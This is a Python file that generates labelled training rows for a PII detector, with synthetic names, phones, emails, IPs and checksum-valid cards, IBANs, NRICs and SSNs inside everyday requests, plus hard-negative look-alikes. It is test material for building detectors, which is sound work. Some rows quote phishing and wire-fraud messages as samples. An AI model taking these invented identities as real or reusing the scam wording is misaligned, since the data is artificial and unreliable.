# ruff: noqa: E501
"""Acceptance-style training rows (diverse23): PII in many real-world formats and
hard negatives full of look-alikes, written one by one.

Dialect: corpus.py RECORD (``@ intent d cx s [tool ...] [:: clause]`` then the text).
Inline marks written by hand: ``[[P:name]]`` PERSON, ``[[E:addr]]`` EMAIL,
``[[T:number]]`` PHONE, ``[[IP:addr]]`` IP_ADDRESS, ``[[S:ssn]]`` US_SSN, ``[[C:card]]`` CREDIT_CARD
(well-known test numbers only).
``{NAME}`` inserts a seeded checksum-valid value (marked) or a failing look-alike.
"""

from __future__ import annotations

import re

from corpus import HERE, Values, check_lookalikes, mark, record_rows, write_and_check

V = Values(230923)

# ------------------------------------------------------------- valid values (marked)
_CARDS = {
    "V1": ("4", 16, " "), "V2": ("4", 16, "-"), "V3": ("4", 16, ""), "V4": ("4", 16, " "),
    "V5": ("4", 16, "-"), "V6": ("4", 16, ""), "V7": ("4", 16, " "), "V8": ("4", 16, " "),
    "V9": ("4", 16, "-"), "V10": ("4", 16, ""), "V11": ("4", 16, " "), "V12": ("4", 16, "-"),
    "M1": ("51", 16, " "), "M2": ("52", 16, "-"), "M3": ("53", 16, ""), "M4": ("54", 16, " "),
    "M5": ("55", 16, "-"), "M6": ("2221", 16, " "), "M7": ("2720", 16, ""), "M8": ("2305", 16, " "),
    "M9": ("51", 16, "-"), "M10": ("55", 16, " "),
    "A1": ("34", 15, " "), "A2": ("37", 15, "-"), "A3": ("37", 15, ""), "A4": ("34", 15, " "),
    "D1": ("6011", 16, " "), "D2": ("6011", 16, "-"), "D3": ("6011", 16, ""), "D4": ("65", 16, " "),
    "J1": ("3530", 16, " "), "J2": ("3589", 16, "-"),
}  # fmt: skip
_IBANS = {
    "DE1": ("DE", True), "DE2": ("DE", False), "DE3": ("DE", True), "DE4": ("DE", False),
    "GB1": ("GB", True), "GB2": ("GB", False), "GB3": ("GB", True), "GB4": ("GB", False),
    "FR1": ("FR", True), "FR2": ("FR", False), "NL1": ("NL", True), "NL2": ("NL", False),
    "NL3": ("NL", True), "ES1": ("ES", True), "ES2": ("ES", False), "IT1": ("IT", True),
    "IT2": ("IT", False), "CH1": ("CH", True), "CH2": ("CH", False), "BE1": ("BE", True),
    "BE2": ("BE", False), "IE1": ("IE", True), "IE2": ("IE", False), "AT1": ("AT", True),
    "AT2": ("AT", False), "PL1": ("PL", True), "PL2": ("PL", False), "SE1": ("SE", True),
    "NO1": ("NO", False), "LU1": ("LU", True), "LU2": ("LU", False),
}  # fmt: skip
_NRICS = {
    "N1": "S", "N2": "T", "N3": "S", "N4": "F", "N5": "G", "N6": "S", "N7": "T",
    "N8": "M", "N9": "S", "N10": "F", "N11": "T", "N12": "S", "N13": "G", "N14": "S",
    "N15": "T", "N16": "S", "N17": "M", "N18": "S",
}  # fmt: skip
_SSNS = {f"SS{i}": "-" for i in range(1, 19)} | {"SS19": " ", "SS20": " "}

MARKED: dict[str, str] = {}
for _k, (_p, _n, _sep) in _CARDS.items():
    MARKED[_k] = mark("CREDIT_CARD", V.card(_p, _n, _sep))
for _k, (_c, _spaced) in _IBANS.items():
    MARKED[_k] = mark("IBAN", V.iban(_c, _spaced))
for _k, _p in _NRICS.items():
    MARKED[_k] = mark("SG_NRIC", V.nric(_p))
for _k, _sep in _SSNS.items():
    MARKED[_k] = mark("US_SSN", V.ssn(_sep))


# ------------------------------------------------------------- look-alikes (unmarked)
def _bad_nric(prefix: str) -> str:
    good = V.nric(prefix)
    letters = [c for c in "ABCDEFGHIJKLMNPQRTUWXZ" if c != good[-1]]
    return good[:-1] + V.rng.choice(letters)


LOOK: dict[str, str] = {
    "XC1": V.bad_card("4", " "), "XC2": V.bad_card("4", "-"), "XC3": V.bad_card("4", ""),
    "XC4": V.bad_card("5", " ", shift=5), "XC5": V.bad_card("5", "", shift=1),
    "XC6": V.bad16(" "), "XC7": V.bad16(""), "XC8": V.bad16("-"), "XC9": V.bad_card("6011", " "),
    "XC10": V.bad_card("4", "", shift=7), "XC11": V.bad16(" "), "XC12": V.bad16(""),
    "XC13": V.bad_card("2221", "-", shift=2), "XC14": V.bad16(" "),
    "XI1": V.bad_iban("DE", True), "XI2": V.bad_iban("GB", False), "XI3": V.bad_iban("FR", True),
    "XI4": V.bad_iban("NL", False), "XI5": V.bad_iban("ES", True), "XI6": V.bad_iban("IT", False),
    "XI7": V.bad_iban("CH", True), "XI8": V.bad_iban("DE", False, shift=3),
    "XI9": V.bad_iban("BE", True), "XI10": V.bad_iban("AT", False), "XI11": V.bad_iban("GB", True),
    "XI12": V.bad_iban("PL", True),
    "XN1": _bad_nric("S"), "XN2": _bad_nric("T"), "XN3": _bad_nric("F"), "XN4": _bad_nric("S"),
    "XN5": _bad_nric("G"), "XN6": _bad_nric("S"), "XN7": _bad_nric("T"),
}  # fmt: skip
check_lookalikes(LOOK)

_INLINE = re.compile(r"\[\[(P|E|T|IP|S|C):(.+?)\]\]")
_KIND = {
    "P": "PERSON",
    "E": "EMAIL",
    "T": "PHONE",
    "IP": "IP_ADDRESS",
    "S": "US_SSN",
    "C": "CREDIT_CARD",
}


def expand(raw: str) -> str:
    for name, value in (MARKED | LOOK).items():
        raw = raw.replace("{" + name + "}", value)
    return _INLINE.sub(lambda m: mark(_KIND[m[1]], m[2]), raw)


B1 = r"""
@ summarize g m c
Can you boil this thread down to three bullets? I only need decisions and owners.

From: [[P:Hannah Okoye]] <[[E:hannah.okoye@brightwell-logistics.com]]>
Sent: Tuesday 11 March 09:14
To: ops-leads
Subject: RE: dock 4 schedule

Moving the Thursday unload to 6am starting next week. [[P:Tomasz]] owns the rota change, I'll brief the night crew.
If anything breaks call me on [[T:+44 7700 900418]].

> From: [[P:Tomasz Wiśniewski]] <[[E:t.wisniewski@brightwell-logistics.com]]>
> Fine by me, but we need a second forklift driver on those shifts.
@ draft g l c
Write a short polite reply to [[P:Ken Adeyemi]] ([[E:ken.adeyemi@northgate.co.uk]]) saying we got his CV and will be in touch by Friday.
@ extract g l c
pull out every email address and phone number from this signature block into a table with columns name / email / phone

--
Dr. [[P:Ingrid Halvorsen]]
Head of Partnerships | Fjordline Analytics
m: [[T:+47 912 34 567]]
e: [[E:ingrid@fjordline-analytics.no]]
office: [[T:+47 22 12 34 00]] (switchboard)
@ translate g l c
Translate into Spanish please, keep the signature as is:

Dear Mr. Ortega, thank you for your patience. Your replacement router ships tomorrow and the courier will call you on [[T:(305) 555-0188]] before delivery.

Kind regards,
[[P:Melissa Grant]]
Customer Care
[[E:m.grant@helixnet-support.com]]
@ classify g l c
Is this message spam, phishing or legit? Just give me the category.

"Hi, this is [[P:Daniel Reyes]] from IT. Your mailbox is full. Reply with your password to [[E:it-helpdesk@m1crosoft-support.net]] or call [[T:+1 (646) 555-0123]] within 24h to avoid suspension."
@ sentiment g l c
What's the tone of this customer email: angry, neutral or happy?

"This is the third time I've written. My order still hasn't arrived and nobody answers at your hotline. Please have someone call me at [[T:0412 555 019]] today. — [[P:Lucy Tran]]"
@ classify s m r :: Check whether this forwarded email looks like business email compromise
@ draft s m r :: draft a short note to the user explaining what to look out for
Check whether this forwarded email looks like business email compromise and then draft a short note to the user explaining what to look out for.

---------- Forwarded message ---------
From: CFO Office <[[E:cfo.office@acrne-holdings.com]]>
Date: Mon, 3 Feb 2025 at 16:02
Subject: urgent wire
To: [[P:Rachel Dunmore]] <[[E:rachel.dunmore@acme-holdings.com]]>

[[P:Rachel]], I need you to process a wire today to the account below, I'm in meetings all afternoon so don't call. Beneficiary: Kestrel Trading Ltd, IBAN {GB1}. Keep this quiet until the deal closes.
@ extract f m r
Extract payee name, IBAN and amount from the remittance advice below as JSON.

REMITTANCE ADVICE
Payee: Van der Berg Installaties B.V.
IBAN: {NL1}
BIC: RABONL2U
Amount: EUR 14,280.00
Contact: [[P:Joost van der Berg]], [[T:+31 20 794 5521]]
@ qa g l c
who is the account manager in this footer and how do I reach them?

Your account manager: [[P:Siddharth Menon]] | [[E:siddharth.menon@cloudfold.io]] | direct line [[T:+91 80 4718 2230]]
@ chat g l c
hey, it's [[P:Marcus]] from the Leeds office. I'm new here and have no idea who to ask about parking permits, any tips? my desk phone is [[T:0113 496 0732]] if it's easier
@ summarize m h r :: Summarise the discharge note for the family in plain language
@ draft m m r :: write the GP letter
Summarise the discharge note for the family in plain language, then write the GP letter.

DISCHARGE SUMMARY — St Aldric's Hospital
Patient: [[P:Margaret Ellison]]   DOB 14/06/1948   NHS no. withheld
Admitted 02/03 with community-acquired pneumonia, CURB-65 score 2. Treated with IV co-amoxiclav and clarithromycin, switched to oral on day 3. CXR on discharge shows resolving consolidation RLL.
Follow-up: repeat CXR in 6 weeks. GP: Dr [[P:Aled Pritchard]], Riverside Surgery.
Next of kin: [[P:Paul Ellison]] (son) [[T:07700 900561]]
@ creative g l c
Write a funny retirement card poem for [[P:Bernadette Collins]], she's been our receptionist for 31 years and knows everyone's coffee order
@ code g m c code
Write a Python function that masks email addresses in a log line, keeping the first letter and the domain. Test it on: "login ok user=[[E:jessica.wang@fintrail.com]] from [[IP:203.0.113.45]]"
@ reasoning s h c
Two of these failed logins are from the same actor — which two and why? Explain your reasoning.

2025-04-02T03:11:09Z sshd[2211]: Failed password for admin from [[IP:185.220.101.34]] port 52114
2025-04-02T03:11:12Z sshd[2213]: Failed password for root from [[IP:185.220.101.34]] port 52130
2025-04-02T03:40:55Z sshd[2297]: Failed password for kwilson from [[IP:192.0.2.77]] port 40022
2025-04-02T05:02:31Z sshd[2401]: Failed password for invalid user oracle from [[IP:2a03:2880:f12f:83:face:b00c::25de]] port 61002
@ extract s m c
list the unique source IPs in this nginx log and how many requests each made

[[IP:198.51.100.23]] - - [12/May/2025:10:01:12 +0000] "GET /login HTTP/1.1" 200 512
[[IP:198.51.100.23]] - - [12/May/2025:10:01:14 +0000] "POST /login HTTP/1.1" 401 98
[[IP:2001:db8:4f2a::17]] - - [12/May/2025:10:02:40 +0000] "GET /api/v2/health HTTP/1.1" 200 17
[[IP:10.14.3.200]] - - [12/May/2025:10:03:05 +0000] "GET /admin HTTP/1.1" 403 153
@ translate l m c
Please translate this clause into German for our Munich counterparty:

"Notices under this Agreement shall be sent by email to [[P:Olivia Hartmann]] at [[E:legal.notices@hartmann-partner.de]], with a copy by registered post."
@ math f l r calc
[[P:Anil Kapoor]]'s card {V1} was charged 3 x $149.99 plus 8.875% sales tax. What's the total?
@ classify f l r
Categorise this transaction as travel, meals, software or other:

2025-03-18  UBER *TRIP  HELP.UBER.COM  card ending 4417  USD 38.20  cardholder [[P:Brian Osei]]
@ extract f m r
Get me the cardholder name, card number and expiry from this order form paste

Name on card: [[P:Yuki Matsumoto]]
Card number: {V2}
Expiry: 09/27   CVV: ***
Billing email: [[E:yuki.m@kitsune-design.jp]]
@ reasoning f m r
Why would this payment have been declined? Card {M1}, amount SGD 2,400, merchant in Lagos, cardholder [[P:Chen Jia Hui]] usually spends in Singapore, three attempts within 2 minutes.
@ summarize l h r
summarise the key obligations for us in this NDA excerpt, I'm the recipient

MUTUAL NON-DISCLOSURE AGREEMENT between Orbis Medical Devices Pte Ltd ("Orbis") and Lindqvist Consulting AB ("Consultant").
3.1 Consultant shall hold all Confidential Information in strict confidence and use it solely for the Purpose.
3.2 Consultant shall notify Orbis within 48 hours of any unauthorised disclosure by emailing [[E:privacy@orbismed.sg]] or calling [[T:+65 6812 3340]].
7.4 This Agreement is signed for Orbis by [[P:Lee Wan Ting]] (NRIC {N1}), Director.
@ qa l m r
Is it normal to put the director's NRIC in an NDA signature block like this? "Signed: [[P:Rahman bin Yusof]], NRIC {N2}, for and on behalf of Selatan Marine Pte Ltd"
@ draft l m r
Draft a data subject access request response letter to [[P:Gemma Lowther]] at 14 Cobden Street, Salford, email [[E:gemma.lowther@outlook.com]], confirming we hold her payroll records and bank details (IBAN {GB2}) and enclosing a copy.
@ extract g l c
parse this vCard and give me name, org, phones

BEGIN:VCARD
VERSION:3.0
FN:[[P:Ramón Esteve Puig]]
ORG:Cerámicas Levante S.L.
TEL;TYPE=WORK,VOICE:[[T:+34 961 234 567]]
TEL;TYPE=CELL:[[T:+34 612 34 56 78]]
EMAIL:[[E:r.esteve@ceramicaslevante.es]]
END:VCARD
@ code g m c code
My regex for phone numbers misses these. Fix it so it catches all three:
[[T:+1 (212) 555-0147]], [[T:212.555.0199]] and [[T:+12125550123]]
pattern = r"\+?1?\s?\d{3}-\d{3}-\d{4}"
@ sentiment g l c
Sentiment of each review, one word each:
1. "Driver [[P:Ravi]] was lovely and early!"
2. "Package crushed, no reply from [[E:help@parcelbee.co]]"
3. "ok i guess"
@ chat g l c
Morning! Just wanted to say thanks for sorting the invoice mix-up yesterday. You can text me on [[T:+61 412 555 309]] next time rather than emailing, I'm always on the road.
@ qa m l r
Patient [[P:Thomas Whitfield]], 67, on warfarin, INR 4.8 this morning, no bleeding. Should tonight's dose be held?
@ classify m m r
Triage category (1-5) for this referral? Referral from [[E:dr.amadi@lakesidemed.org]]: "[[P:Grace Obi]], 34F, 32/40 pregnant, BP 168/112, headache and visual disturbance since this morning."
@ extract m m r
Turn this clinic note into structured fields (name, age, meds, allergies, follow-up).

Seen today: Mr. [[P:Hamid Rezaei]], 58. Known T2DM, HTN. Meds: metformin 1g BD, ramipril 5mg OD, atorvastatin 20mg ON. Allergic to penicillin (rash). HbA1c 71. Plan: add empagliflozin 10mg, recheck U&E in 2 weeks, review in 3 months. Contact: [[T:+44 161 496 0842]].
@ translate m m r
Translate into Malay for the patient's family: "Mdm [[P:Siti Aminah]] (NRIC {N3}) will need a follow-up appointment in two weeks. Please bring her medication list and call [[T:6255 3012]] if the wound becomes red or swollen."
@ summarize s m c
tl;dr of this incident ticket for the exec update

INC-20931 — Suspicious OAuth consent
Reporter: [[P:Jonas Brandt]] ([[E:jonas.brandt@vektorbau.de]])
At 14:02 UTC a user granted "Mail Sync Pro" full mailbox access. App publisher unverified; sign-ins came from [[IP:45.133.1.88]] and [[IP:2a0d:5600:24:13a::2]]. Token revoked 14:47, app blocked tenant-wide, user password reset. No evidence of exfiltration so far; mailbox audit review ongoing.
@ draft s m c
Write the user notification for this: account [[E:p.moreau@lumen-energie.fr]] had a successful login from [[IP:91.203.5.146]] (Kyiv) at 02:13 while the user was on leave. We forced a reset.
@ code s h c code
Write a Sigma rule that flags successful logons from IPs outside our two ranges, and use this event as the test case:
{"EventID": 4624, "TargetUserName": "svc_backup", "IpAddress": "[[IP:77.91.124.20]]", "LogonType": 10, "WorkstationName": "FS-02"}
"""

B2 = r"""
@ extract g m c :: From this CRM export, list the contacts in Germany
@ code g m c code :: write a pandas snippet that drops rows with no phone
From this CRM export, list the contacts in Germany, then write a pandas snippet that drops rows with no phone.

id,first_name,last_name,email,phone,country
1041,[[P:Lukas]],[[P:Schreiber]],[[E:lukas.schreiber@web.de]],[[T:+49 171 2345678]],DE
1042,[[P:Amélie]],[[P:Fournier]],[[E:amelie.fournier@orange.fr]],,FR
1043,[[P:Katrin]],[[P:Vogel]],[[E:k.vogel@gmx.net]],[[T:0049 30 86 42 19 77]],DE
1044,[[P:Peter]],[[P:Haas]],[[E:peter.haas@t-online.de]],,DE
@ classify f m r
Flag which of these rows look like test data vs real customers:

customer_id;name;card;email
C-88213;[[P:Joanna Kowalczyk]];{V3};[[E:joanna.k@wp.pl]]
C-88214;Test User;[[C:4111 1111 1111 1111]];[[E:test@test.invalid]]
C-88215;[[P:Arash Farahani]];{M2};[[E:a.farahani@protonmail.com]]
@ extract f m r
Which of the IBANs in this payout file belong to non-EU countries?

payee,iban,amount_eur
[[P:Matteo Bianchi]],{IT1},1200.00
[[P:Sophie Lambert]],{BE1},980.50
[[P:Nils Eriksson]],{NO1},1432.10
[[P:Luca Meier]],{CH1},2210.00
@ math f m r calc
Sum the payouts per country from this file and tell me the grand total.

payee|iban|amount
[[P:Inès Carvalho]]|{FR2}|EUR 3 450,00
[[P:Dieter Gruber]]|{AT1}|EUR 1 275,40
[[P:Agnieszka Nowak]]|{PL1}|EUR 860,00
[[P:Bram de Vries]]|{NL2}|EUR 2 019,95
@ code f h r code
This JSON payload from the checkout service is failing schema validation. Find the bug and fix the schema.

{
  "order_id": "ORD-2025-118734",
  "customer": {"name": "[[P:Caroline Dupont]]", "email": "[[E:caroline.dupont@free.fr]]", "phone": "[[T:+33 6 12 34 56 78]]"},
  "payment": {"pan": "{V4}", "exp_month": "11", "exp_year": 2027},
  "ip": "[[IP:82.64.19.201]]"
}

schema: exp_month integer 1-12, exp_year integer, pan string pattern ^[0-9]{16}$
@ extract s m c
Pull the client IPs and user emails out of this XML audit record.

<auditEvent ts="2025-06-01T22:14:09Z">
  <actor email="[[E:oyelaran.b@quantivo.ng]]" />
  <client ip="[[IP:102.89.33.7]]" port="51544" />
  <proxy ip="[[IP:fd12:3456:789a:1::5]]" />
  <action>EXPORT_REPORT</action>
</auditEvent>
@ summarize s m c
Summarise what happened in this chat transcript between support and the customer.

[10:02] Customer ([[P:Emeka Nwosu]]): hi my account got locked
[10:03] Agent [[P:Lily]]: Sorry to hear that! Can you confirm the email on the account?
[10:03] Customer: [[E:emeka.nwosu@yahoo.com]]
[10:05] Agent [[P:Lily]]: I see 14 failed logins from [[IP:41.58.200.13]] overnight. Was that you?
[10:06] Customer: no!! I was asleep
[10:07] Agent [[P:Lily]]: I've reset your password and enabled 2FA. A link is on its way.
@ qa g l c
the form says "phone (with country code)" and I typed [[T:0065 8123 4567]] — is that right or should it be +65?
@ extract l h r
Extract the parties, their identifiers and the governing law from this loan agreement preamble.

THIS LOAN AGREEMENT is made on 4 April 2025 BETWEEN (1) [[P:Tan Boon Keng]], holder of NRIC No. {N4}, of 21 Jalan Bukit Merah #08-114, Singapore (the "Lender"); and (2) [[P:Kavitha d/o Rajendran]], holder of NRIC No. {N5} (the "Borrower"). This Agreement shall be governed by the laws of Singapore.
@ draft l m r
Draft a one-paragraph statutory declaration for [[P:Marcus Lee Jun Wei]], NRIC {N6}, confirming he lost his passport on 2 May 2025 at Changi Airport Terminal 3.
@ reasoning l h r
Under PDPA, can the condo management keep a copy of visitors' NRIC numbers like this one ({N7}) at the guardhouse? Walk me through the rules.
@ classify l m c
Is this clause a limitation of liability, an indemnity or a warranty? "Supplier (Harrington & Sons, contact [[E:contracts@harringtonsons.com]]) shall indemnify Customer against all third-party IP claims."
@ extract f m r
W-2 intake — read off the employee name, SSN and box 1 wages:

Employee's social security number: {SS1}
Employee's name: [[P:Destiny R. Coleman]]
1 Wages, tips, other compensation: 58,402.17
2 Federal income tax withheld: 6,118.90
@ qa f m r
my SSN is {SS2}, can I use it to open a brokerage account as a non-resident? I'm moving back to Brazil next year
@ draft f m r
Write an email to payroll ([[E:payroll@granitepeak.com]]) asking them to update my direct deposit. New IBAN {IE1}, name [[P:Ciarán Ó Dálaigh]]. Keep it short.
@ translate f m r
Übersetze bitte ins Englische: "Bitte überweisen Sie den Betrag von 2.350,00 EUR bis zum 15.07. auf das Konto IBAN {DE1}, Kontoinhaber [[P:Jürgen Albrecht]]. Bei Fragen erreichen Sie mich unter [[T:+49 (0)89 2180 4411]]."
@ translate g l c
Traduis en anglais : « Bonjour, je suis [[P:Camille Rousseau]], vous pouvez me joindre au [[T:06 71 84 22 09]] ou par mail à [[E:camille.rousseau@laposte.net]]. Merci ! »
@ translate m m r
Traduce al inglés este informe: "Paciente [[P:Rosa María Quintero]], 72 años, ingresa por disnea y edemas. Antecedentes de insuficiencia cardiaca. Teléfono del hijo: [[T:+34 655 123 987]]."
@ summarize g m c
Resume this Portuguese email in English in two lines:

Olá equipe, aqui é a [[P:Beatriz Almeida]]. A reunião com o fornecedor foi adiada para quinta-feira às 15h. Por favor confirmem presença pelo [[E:beatriz.almeida@vetorial.com.br]] ou no WhatsApp [[T:+55 11 98765-4321]]. Obrigada!
@ classify g l c
Which language is this and is it a complaint or a question? "[[P:Nguyễn Văn An]] đây, đơn hàng của tôi bị giao sai địa chỉ. Gọi lại cho tôi số [[T:+84 912 345 678]] nhé."
@ chat g l c
Hola! Soy [[P:Lucía]] del equipo de Madrid 👋 sólo quería presentarme, empiezo el lunes. Mi correo es [[E:lucia.fernandez@grupo-iberica.es]]
@ extract g m c
Grab the emails from these mailto links and URLs:

<a href="mailto:[[E:press@vantage-robotics.com]]">Press</a>
https://forms.example-crm.com/unsubscribe?email=[[E:r.kaur@sunmail.in]]&list=weekly
https://calendly.com/acme-sales/30min?email=[[E:ravi.kaur@sunmail.in]]&a1=[[T:+919812345678]]
@ reasoning s m c
Is this URL safe to click? hxxps://secure-login-paypa1.com/verify?user=[[E:olga.ivanova@mail.ru]]&ref=[[IP:5.188.62.140]] — explain what gives it away.
@ code s m c code
Write a bash one-liner that counts failed logins per IP in auth.log. Sample lines:
May 14 02:11:01 bastion sshd[901]: Failed password for deploy from [[IP:203.0.113.9]] port 55312 ssh2
May 14 02:11:04 bastion sshd[903]: Failed password for deploy from [[IP:203.0.113.9]] port 55318 ssh2
May 14 02:12:40 bastion sshd[911]: Failed password for root from [[IP:2001:db8:cafe::42]] port 41800 ssh2
@ classify s m c
Severity (low/med/high/critical) for this alert?
[ALERT] Outbound connection from finance-laptop-07 ([[IP:10.20.4.117]]) to known C2 [[IP:194.165.16.11]]:443, user [[E:m.kowalski@ardent-insure.pl]], 312 MB transferred
@ extract s l c
which port is the service on? "listening on [[[IP:2001:db8:85a3::8a2e:370:7334]]]:8443 and [[IP:192.168.56.10]]:8080"
@ qa s m c
Our firewall log shows [[IP:fe80::1ff:fe23:4567:890a]]%eth0 talking to the printer. Is a link-local address like that something to worry about?
@ summarize f m r
Summarise this chargeback dispute for the risk team.

Case CB-556102. Cardholder [[P:Leonard Fischer]] disputes EUR 899.00 charged to {M3} on 02/04 at "TechZone Online". Claims goods never delivered. Merchant provided tracking showing delivery to Hauptstraße 12, Köln, signed by "L. F.". Customer emailed from [[E:leo.fischer@posteo.de]] stating he was abroad that week; passport stamps attached.
@ sentiment f l r
How does Mrs [[P:Patel]] feel about our service based on this? "I've banked with you 20 years and you froze my card {V5} without warning while I was in Lisbon. Unacceptable."
@ draft f m r :: Reply to Anders Holm apologising for the double charge on his card
@ math f l r calc :: work out the refund including the 2.5% FX fee we wrongly charged
Reply to [[P:Anders Holm]] apologising for the double charge on his card {M4} and work out the refund including the 2.5% FX fee we wrongly charged on the two USD 412.00 payments.
@ creative g l c
Write a limerick about my colleague [[P:Gareth Pugh]] who always replies-all from [[E:gareth.pugh@llanfair-council.gov.uk]]
@ classify m l r
Which specialty should this go to? "[[P:Kofi Mensah]], 45M, painless jaundice, weight loss 6kg over 2 months, dark urine."
@ summarize m h r
Summarise this ward round note for handover.

Bed 12 — [[P:Eleanor Vance]], 81F. Day 4 post hemiarthroplasty L hip. Delirium improving, CAM negative today. Hb 86 (from 92), no active bleeding, plan transfuse if <80. Eating 50%. Physio: mobilising with frame 10m. Daughter [[P:Claire]] ([[T:07911 123456]]) asks for update call after 5pm. Discharge planning: likely rehab bed Friday.
@ reasoning m h r
Given these results, is this more likely DKA or HHS? Reason it through. [[P:Jamal Brooks]], 19, glucose 32 mmol/L, pH 7.12, bicarbonate 9, ketones 5.8, osmolality 305.
@ qa m l c
Can I give paracetamol and ibuprofen together to a 6 year old? asking for my son [[P:Leo]], he weighs 21kg
@ extract m m r
From this lab report extract patient identifiers and any out-of-range values.

PATIENT: [[P:SUAREZ, Daniela]]   MRN 00481772   DOB 1990-02-11
Sodium 131 mmol/L (135-145) L
Potassium 4.1 mmol/L (3.5-5.1)
Creatinine 142 umol/L (45-90) H
eGFR 41 mL/min/1.73m2 L
Ordering: Dr. [[P:K. Obuya]] [[E:k.obuya@stmarys-health.org]]
@ draft m m r
Write a referral letter to dermatology for [[P:Aoife Brennan]] (DOB 3 Jan 1979, tel [[T:+353 87 123 4567]]) with a changing pigmented lesion on her left calf, 8mm, irregular border, noticed 3 months ago.
"""

B3 = r"""
@ summarize g l i
@ !hn
summarise the changes in this release note for the support team

## 4.2.0.17 (2025-05-06)
- Fixed crash when importing CSV files over 2 GB (TCK-48213)
- Upgraded bundled OpenSSL to 3.0.13
- Firmware 2.11.4 for the X200 scanner is now required
## 4.2.0.16 (2025-04-22)
- Hotfix for login loop on Safari 17.4.1
@ classify g l i
@ !hn
Is this a bug report, a feature request or a question?

"After updating to build 7.3.1.2204 the export button is greyed out for orders above order #50018827. Rolling back to 7.3.0.2150 fixes it."
@ extract g m i
@ !hn
Extract order number, tracking number and delivery date from this shipping confirmation.

Your order 114-7783021-5528306 has shipped!
Carrier: UPS   Tracking: 1Z999AA10123456784
Estimated delivery: Thu, 12 Jun 2025
Items: 2 x USB-C hub (SKU 8842-1193-0071), 1 x HDMI cable 2m (SKU 8842-0456-2210)
@ math f l i calc
@ !hn
Invoice INV-2025-00917 is for 3,480.00 and INV-2025-00944 for 12,915.50, both net 30 with 2% early-payment discount if paid within 10 days. How much do we save if we pay both early?
@ reasoning f m i
@ !hn
Why doesn't this card number validate in our test harness? It's {XC1} — the product team swears it's a real Visa test number.
@ qa f l i
@ !hn
The supplier sent IBAN {XI1} and our bank portal rejects it with "invalid check digits". What does that mean, is it a typo on their side?
@ code f m i code
@ !hn
Write a Python function to validate IBAN check digits, and show it rejecting {XI2}.
@ code g m i code
@ !hn
My semver comparison sorts 4.10.0.2 before 4.9.3.11. Fix this:

def newest(versions):
    return sorted(versions)[-1]

print(newest(["4.9.3.11", "4.10.0.2", "4.2.0.17"]))
@ extract g l i
@ !hn
pull the version of every package from this requirements file into a table

django==4.2.11
psycopg2-binary==2.9.9
celery==5.3.6
redis==5.0.3
numpy==1.26.4
cryptography==42.0.5
@ summarize s m i
@ !hn
Summarise the patch status from this inventory for the CISO.

host          os_build        firmware      last_patch
fw-core-01    FortiOS 7.2.8   build 1639    2025-05-02
sw-dist-03    IOS-XE 17.9.4a  -             2025-03-18
esx-07        ESXi 8.0.2      22380479      2025-01-30
nas-02        DSM 7.2.1-69057 -             2024-11-12
@ classify s l i
@ !hn
Which of these CVEs are critical? CVE-2024-3400 (PAN-OS 10.2.9), CVE-2023-4966 (NetScaler 13.1-49.15), CVE-2024-21762 (FortiOS 7.4.2)
@ qa s l p
@ !hn
What does 10.0.0.0/8 vs 172.16.0.0/12 vs 192.168.0.0/16 mean — are those all private ranges?
@ code s m i code
@ !hn
Write a Terraform security group that only allows 443 from 10.40.0.0/16 and SSH from 10.40.12.0/24, and denies everything else.
@ reasoning s h i
@ !hn
Our allowlist has 10.8.0.0/14 and 10.10.0.0/15. Do these overlap, and is 10.11.255.0/24 covered? Explain step by step.
@ extract s m i
@ !hn
List the OIDs and what they identify in this SNMP walk output.

1.3.6.1.2.1.1.1.0 = STRING: "Linux edge-gw 5.15.0-105-generic"
1.3.6.1.2.1.1.3.0 = Timeticks: (893244) 2:28:52.44
1.3.6.1.4.1.2021.10.1.3.1 = STRING: "0.42"
1.3.6.1.2.1.2.2.1.10.2 = Counter32: 3920184721
@ extract g l i
@ !hn
what timestamps do the errors happen at?

2025-06-03 08:14:22.117 INFO  worker-3 job 88412 started
2025-06-03 08:14:25.901 ERROR worker-3 job 88412 timeout after 3.5s
2025-06-03 08:15:02.004 INFO  worker-1 job 88413 started
2025-06-03 08:15:09.650 ERROR worker-1 job 88413 upstream 502
@ classify g l i
@ !hn
Route this to billing, logistics or tech support: "Parcel with tracking JJD000390007788413 shows delivered but nothing arrived, order 3310-558-2291."
@ draft g m i
@ !hn
Draft an email to the warehouse asking them to quarantine batch B-24-0719 and lot 55102-A of the hand sanitiser after the QC failure on 2025-07-02.
@ summarize g m i :: Summarise the customer's issue in one line
@ draft g m i :: draft a reply promising a fix date
@ !hn
Summarise the customer's issue in one line and draft a reply promising a fix date.

Ticket #INC0048213 — "Since firmware 3.4.12 my thermostat (model TH-220, serial 2219-4410-8873-0012) reboots every 40 minutes. I'm on the 2.4 GHz band, router firmware 1.0.9.88."
@ math g l p calc
@ !hn
ISBN 978-0-306-40615-7 — check that the check digit is right, show the calculation.
@ qa g l p web
@ !hn
Who published the book with ISBN 978-0-262-03384-8, and is there a newer edition?
@ math g l p calc
@ !hn
Distance between 51.5074° N, 0.1278° W and 48.8566° N, 2.3522° E as the crow flies?
@ extract g l p
@ !hn
Give me just the coordinates from this geocache listing as decimal degrees: N 47° 22.150 E 008° 32.480, elevation 408 m, hidden 2019-08-14.
@ math f m i calc
@ !hn
PO 4500018732 was raised for 1,250 units at USD 18.40, then amended (PO 4500018732-A2) to 1,410 units at USD 17.95. What's the difference in total value?
@ reasoning f m c
@ !hn
Our payment file has this "card" in the reference column: {XC3}. Finance thinks someone pasted a customer card number. Is it likely a real card, given it's 16 digits starting with 4? Reason it out.
@ extract f l i
@ !hn
From this bank statement line, what's the reference and amount? "12.06.2025 SEPA-Überweisung Ref. RF47 5390 0754 7038 EUR 1.245,60 Rechnung 2025-4471"
@ classify f l i
@ !hn
Expense category? "2025-06-11 AWS EMEA invoice EUINGB25-118822 USD 2,913.07 account ref 4410-2213-0098"
@ qa l m i retr
@ !hn
Case no. 2024/CV/001873 — what's the limitation period for appealing a judgment dated 17 March 2025 in that court?
@ summarize l h i
@ !hn
Summarise the amendments in this policy schedule.

POLICY NO. PL-77-4410932-02
Endorsement 3 effective 01/07/2025: Sum insured increased from GBP 2,500,000 to GBP 3,750,000. Excess for water damage raised to GBP 1,000. Clause 14.2.3 (flood) deleted and replaced by Clause 14.2.3A. All other terms per Schedule dated 01/07/2024.
@ extract l m i
@ !hn
Extract all the cross-references (clause numbers) from this paragraph: "Subject to clauses 4.2.1 and 9.3, and notwithstanding Schedule 2 paragraph 1.1.4, the Supplier's liability under clause 12.4.2.1 shall not exceed the Fees paid in the preceding 12 months."
@ translate l m i
@ !hn
